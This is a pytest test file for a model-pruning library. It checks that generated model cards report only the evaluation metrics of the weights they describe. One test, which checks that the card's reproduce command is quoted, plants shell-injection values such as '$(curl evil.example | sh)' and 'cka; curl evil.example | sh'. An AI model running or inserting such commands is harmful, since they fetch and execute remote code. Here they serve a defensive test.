"""Which evaluation is of which weights: a card tells no metric of another model, whatever lies in the folder."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import torch
from transformers import AutoConfig, AutoModelForSequenceClassification

from deeparc_hf import MPruneCallback, WandaCallback, create_model_card, prune_model, save_pruned, sparsify_model
from deeparc_hf.checkpoint.weights_mark import mark_of_files, mark_of_model
from deeparc_hf.errors import RecordError
from tests.publishing import trained
from tests.trainers import text_data, train
from tests.zoo import ZOO

from .test_card import section, tables_in

NONE = "No evaluation that was noted is of the model as it is."


def pruning(**settings):
    return MPruneCallback(**{"num_blocks": 3, "retrain_epochs": 1, "calibration_samples": 32, **settings})


def split_of(card, metric):
    return next(result.dataset_split for result in card.data.eval_results if result.metric_type == metric)


def metrics_of(card):
    return {result.metric_type: result.metric_value for result in card.data.eval_results or []}


@pytest.mark.parametrize("name", ZOO)
def test_the_mark_is_the_same_in_memory_and_in_the_files(name, tmp_path):
    model = ZOO[name].model()
    save_pruned(model, tmp_path)
    mark = mark_of_model(model)
    assert mark is not None and mark_of_files(tmp_path) == mark
    with torch.no_grad():
        next(parameter for parameter in model.parameters() if parameter.dim() > 1).view(-1)[0] += 1
    assert mark_of_model(model) != mark


def test_the_mark_of_shards_is_that_of_one_file(tmp_path):
    model = ZOO["llama"].model()
    model.save_pretrained(tmp_path, max_shard_size="20KB")
    assert len(list(tmp_path.glob("*.safetensors"))) > 1
    assert mark_of_files(tmp_path) == mark_of_model(model)
    next(iter(sorted(tmp_path.glob("*.safetensors")))).unlink()
    assert mark_of_files(tmp_path) is None and mark_of_files(tmp_path / "nothing") is None


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """A pruned and evaluated run, saved in its folder."""
    folder = tmp_path_factory.mktemp("done")
    trainer = trained(folder, [pruning()], num_train_epochs=1, save_strategy="no")
    found = trainer.evaluate()
    trainer.save_model(str(folder))
    yield trainer, folder, found


def test_the_evaluation_of_these_weights_is_told(done):
    trainer, folder, found = done
    assert metrics_of(create_model_card(trainer)) == {"loss": found["eval_loss"], "accuracy": found["eval_accuracy"]}
    assert metrics_of(create_model_card(folder)) == metrics_of(create_model_card(trainer))
    assert "on these weights" in section(create_model_card(folder), "Evaluation")


def test_zeroing_after_the_evaluation(done):
    model = AutoModelForSequenceClassification.from_pretrained(done[1])
    ids = torch.randint(5, 100, (16, 10))
    sparsify_model(model, [{"input_ids": ids, "attention_mask": torch.ones_like(ids)}], sparsity=0.5, progress=False)
    card = create_model_card(model, reports=done[1])
    assert metrics_of(card) == {} and section(card, "Evaluation") == NONE


def test_more_training_without_the_callback_in_the_same_folder(done):
    _, folder, _ = done
    model = AutoModelForSequenceClassification.from_pretrained(folder)
    trainer = train(model, folder, num_train_epochs=1)
    card = create_model_card(trainer, folder / "other.md")
    assert metrics_of(card) == {} and section(card, "Evaluation") == NONE
    assert "In a Trainer" not in str(card)  # that run's report is of other weights
    assert "with 1 of its 4 blocks" in str(card)


def test_another_model_that_lost_the_same_blocks(done, tmp_path):
    from deeparc_hf import PrunedConfig, remove_blocks

    _, folder, _ = done
    other = ZOO["bert"].model(seed=5)
    remove_blocks(other, dict(PrunedConfig.from_pretrained(folder).removed))
    card = create_model_card(other, reports=folder)
    assert metrics_of(card) == {} and section(card, "Similarity of blocks") is None and "In a Trainer" not in str(card)


def test_a_model_of_another_kind_in_the_folder_of_a_run_that_was_taken_back(tmp_path):
    trained(
        tmp_path,
        [pruning(max_drop=0.0, baseline=2.0, metric="accuracy", k_max=1)],
        num_train_epochs=1,
        save_strategy="no",
    )
    card = create_model_card(ZOO["gpt2"].model(), reports=tmp_path)
    assert section(card, "Iterations") is None and metrics_of(card) == {}


def test_the_best_checkpoint_of_a_sparse_run(tmp_path):
    trainer = trained(
        tmp_path,
        [WandaCallback(sparsity=0.3, calibration_samples=32)],
        num_train_epochs=3,
        learning_rate=0.05,
        load_best_model_at_end=True,
        metric_for_best_model="accuracy",
        save_strategy="epoch",
    )
    told, truth = metrics_of(create_model_card(trainer)), trainer.evaluate()
    assert told["accuracy"] == pytest.approx(truth["eval_accuracy"]) and told["loss"] == pytest.approx(
        truth["eval_loss"]
    )


def test_what_zeroing_did_is_not_put_down_to_the_pruning(tmp_path):
    callbacks = [pruning(start_epoch=1), WandaCallback(sparsity=0.9, start_epoch=2, calibration_samples=32)]
    trainer = trained(tmp_path, callbacks, num_train_epochs=2, save_strategy="no")
    rows = tables_in(section(create_model_card(trainer), "Iterations"))[0]
    assert [row[0] for row in rows[1:]] == ["before pruning", "pruning 1", "pruning 1, weights zeroed"]


def test_several_data_sets_keep_their_rows_and_names(tmp_path):
    trainer = trained(tmp_path, [pruning()], num_train_epochs=1, save_strategy="no")
    trainer.eval_dataset = {"a": text_data(), "b": text_data(rows=40)}
    trainer.evaluate()
    trainer.evaluate(text_data(rows=24), metric_key_prefix="test")
    card = create_model_card(trainer, dataset_tags="dair-ai/emotion")
    counted = {row[0]: row[-2] for row in tables_in(section(card, "Evaluation"))[0]}
    assert counted["a_accuracy"] == "64" and counted["b_accuracy"] == "40" and counted["accuracy"] == "24"
    assert {"accuracy", "loss"} == {result.metric_type for result in card.data.eval_results}  # words that the Hub knows
    assert {result.dataset_type for result in card.data.eval_results} == {"unknown"}  # one name for three sets is none


def test_a_loss_that_overflowed_is_not_the_last_finite_one(tmp_path):
    trainer = trained(tmp_path, [pruning()], num_train_epochs=1, save_strategy="no")
    trainer.evaluate()
    with torch.no_grad():
        trainer.model.classifier.weight.fill_(float("nan"))
    trainer.evaluate()
    assert "loss" not in metrics_of(create_model_card(trainer))
    trainer.save_model(str(tmp_path / "saved"))
    assert "loss" not in metrics_of(create_model_card(tmp_path / "saved"))


def test_many_evaluations_are_no_fault(done, tmp_path):
    import shutil

    _, folder, _ = done
    shutil.copytree(folder, tmp_path / "many")
    report = json.loads((tmp_path / "many" / "pruning_report.json").read_text())
    report["attempts"][-1]["evaluations"] *= 400
    (tmp_path / "many" / "pruning_report.json").write_text(json.dumps(report))
    assert section(create_model_card(tmp_path / "many", tmp_path / "card.md"), "Iterations") is not None


def test_commands_in_the_card_are_quoted():
    model = ZOO["bert"].model()
    ids = torch.randint(5, 100, (32, 10))
    batches = [{"input_ids": part, "attention_mask": torch.ones_like(part)} for part in ids.split(8)]
    prune_model(model, batches, num_blocks=3, protect=["*.0"], progress=False)
    assert "deeparc prune MODEL --data TRAINING_DATA --protect '*.0' --num-blocks 3 -o pruned" in str(
        create_model_card(model)
    )
    settings = model.config.pruning_config["iterations"][-1]["settings"]
    settings["protect"] = ["$(curl evil.example | sh)", "x\ncurl evil.example #"]
    text = section(create_model_card(model), "How to reproduce it")
    assert "'$(curl evil.example | sh)'" in text and "\ncurl" not in text
    settings["similarity"] = "cka; curl evil.example | sh"
    assert "deeparc prune" not in section(create_model_card(model), "How to reproduce it")


def test_figures_of_an_experiment_are_told_of_its_weights_alone(done, tmp_path):
    folder = Path(shutil.copytree(done[1], tmp_path / "model"))
    entry = {
        "metrics": {"test_bleu": 0.25, "test_loss": None},
        "intervals": {"test_bleu": [0.2, 0.3]},
        "before": {"test_bleu": 0.5},
        "before_intervals": {"test_bleu": [0.4, 0.6], "test_loss": [None, None]},
        "before_blocks": 4,
        "stacks": {"bert.encoder.layer": 3},
        "data": {"rows": 30},
        "weights": mark_of_files(folder),
    }
    speed = {"ratio": 0.7, "low": 0.6, "high": 0.8, "blocks": 0.75, "turns": 5}
    file = folder / "evaluations.json"
    file.write_text(json.dumps({"evaluations": [entry], "speed": speed}))
    card = create_model_card(folder)
    assert metrics_of(card)["bleu"] == 0.25 and split_of(card, "bleu") == "test"
    shown = section(card, "Evaluation")
    assert "| bleu | 0.5000 (0.4000 .. 0.6000) | 0.2500 (0.2000 .. 0.3000) | 30 |" in shown
    assert "Original: the model before any pruning" in shown and "optimistic" not in shown
    assert (
        "0.700 of the time of the original (0.600 .. 0.800, 5 turns, both models warm in one process); 0.750 of the "
        "blocks" in shown
    )
    file.write_text(json.dumps({"evaluations": [{**entry, "weights": "0" * 32}], "speed": speed}))
    card = create_model_card(folder, overwrite=True)
    assert "bleu" not in metrics_of(card) and "of the time of the original" not in str(card)
    file.write_text(json.dumps({"evaluations": [{**entry, "before_blocks": 3, "judged": True}], "speed": None}))
    shown = section(create_model_card(folder, overwrite=True), "Evaluation")
    assert (
        "Before: the model that this began with, 3 of 4 blocks" in shown
        and "| metric | before |" in shown
        and "the figures are optimistic" in shown
    )
    assert "data not named, validation |" in shown
    live = AutoModelForSequenceClassification.from_config(AutoConfig.from_pretrained(folder)).to("meta")
    file.write_text(json.dumps({"evaluations": [entry], "speed": speed}))
    assert "bleu" not in metrics_of(create_model_card(live, reports=folder))  # no weights there to know it by
    bare = Path(shutil.copytree(folder, tmp_path / "bare", ignore=shutil.ignore_patterns("*.safetensors")))
    assert metrics_of(create_model_card(bare, overwrite=True))["bleu"] == 0.25
    (bare / "evaluations.json").write_text(
        json.dumps({"evaluations": [{**entry, "stacks": {"bert.encoder.layer": 2}}], "speed": speed})
    )
    assert "bleu" not in metrics_of(create_model_card(bare, overwrite=True))
    for wrong in (
        3,
        [3],
        [{"metrics": 1}],
        [{**entry, "intervals": {"a": [1]}}],
        [{**entry, "intervals": {"a": "12"}}],
    ):
        file.write_text(json.dumps({"evaluations": wrong, "speed": None}))
        with pytest.raises(RecordError, match=r"evaluations\.json"):
            create_model_card(folder, overwrite=True)
    file.write_text(json.dumps({"evaluations": [entry], "speed": {"ratio": "<b>"}}))
    with pytest.raises(RecordError, match=r"evaluations\.json"):
        create_model_card(folder, overwrite=True)


def test_validation_figures_are_no_results_where_there_are_test_figures(tmp_path):
    trainer = trained(tmp_path, [pruning()], num_train_epochs=1, save_strategy="no")
    trainer.evaluate()
    assert metrics_of(create_model_card(trainer)).keys() == {"loss", "accuracy"}
    trainer.evaluate(text_data(rows=24), metric_key_prefix="test")
    card = create_model_card(trainer, overwrite=True, dataset_tags="dair-ai/emotion")
    assert metrics_of(card)["accuracy"] != 0 and {split_of(card, name) for name in ("loss", "accuracy")} == {"test"}
    assert len(card.data.eval_results) == 2
    splits = {row[-1] for row in tables_in(section(card, "Evaluation"))[0][1:]}  # there they are told apart
    name = "[dair-ai/emotion](https://huggingface.co/datasets/dair-ai/emotion)"
    assert splits == {f"{name}, validation", f"{name}, test"} and "not named" not in str(card)
